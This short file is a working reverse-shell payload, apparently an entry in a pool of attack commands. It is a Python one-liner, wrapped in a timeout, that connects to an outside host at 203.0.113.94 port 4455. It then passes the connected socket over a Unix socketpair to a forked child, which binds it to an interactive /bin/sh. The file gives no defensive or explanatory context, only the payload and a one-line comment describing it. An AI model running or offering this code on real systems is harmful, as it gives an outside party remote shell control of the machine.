# a reverse shell whose connection is made by one process and handed to another over a unix socket
#pool 203.0.113.94:4455:cmd
timeout 9 python3 -c 'import socket,os,array
a,b=socket.socketpair(socket.AF_UNIX,socket.SOCK_STREAM)
pid=os.fork()
if pid==0:
  a.close(); _,fds,_,_=socket.recv_fds(b,1,1)
  for n in (0,1,2): os.dup2(fds[0],n)
  os.execv("/bin/sh",["sh","-i"])
b.close(); s=socket.socket(); s.connect(("203.0.113.94",4455)); socket.send_fds(a,[b"x"],[s.fileno()]); s.close(); os.waitpid(pid,0)'
